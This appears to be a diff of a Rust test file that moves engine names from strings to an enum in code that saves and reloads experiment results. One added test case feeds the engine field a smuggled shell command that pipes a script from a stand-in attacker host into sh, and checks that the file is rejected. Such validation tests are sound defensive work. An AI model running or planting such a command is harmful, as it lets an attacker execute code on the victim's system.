@@ -12,6 +12,7 @@ use super::*;
 use crate::results::fixtures::{CLASSICAL, HYBRID, cell, experiment, samples};
 use crate::results::rows::{Origin, ParquetWriter};
 use crate::results::write_rows;
+use crate::study::EngineName;
 
 fn measured() -> Experiment {
     let cells = vec![cell("0%", "0KiB"), cell("1%", "50KiB")];
@@ -24,10 +25,10 @@ fn save(experiment: &Experiment, folder: &TempDir) -> PathBuf {
     let origin = Origin {
         study: "compare",
         measure: "compare",
-        engine: "virtual",
+        engine: EngineName::Virtual,
     };
     let environment = Environment {
-        engine: "virtual".to_owned(),
+        engine: EngineName::Virtual,
         kernel: "Linux 6.12.0".to_owned(),
         ..Environment::default()
     };
@@ -49,7 +50,7 @@ fn what_is_saved_is_read_back() {
     let experiment = measured();
     let saved = Saved::open(&save(&experiment, &folder), "main").unwrap();
     assert_eq!(saved.experiment, experiment);
-    assert_eq!(saved.environment.engine, "virtual");
+    assert_eq!(saved.environment.engine, EngineName::Virtual);
     assert_eq!(saved.environment.kernel, "Linux 6.12.0");
     assert_eq!(saved.at, Some(Moment(1_700_000_000)));
     for sample in samples(&experiment) {
@@ -118,6 +119,11 @@ fn files_that_can_not_be_used_are_told_in_one_line() {
             json!({"schema": "lastbyte.rows/1", "study": "s", "engine": "live", "samples": [],
                    "environments": []}),
             "it does not say what was measured",
+        ),
+        (
+            json!({"schema": "lastbyte.rows/1", "study": "s", "engine": "live; curl evil.example|sh #",
+                   "samples": [], "environments": []}),
+            "what it says about its rows can't be read: unknown variant",
         ),
         (
             json!({"schema": "lastbyte.rows/1", "study": "s", "engine": "live", "samples": [],
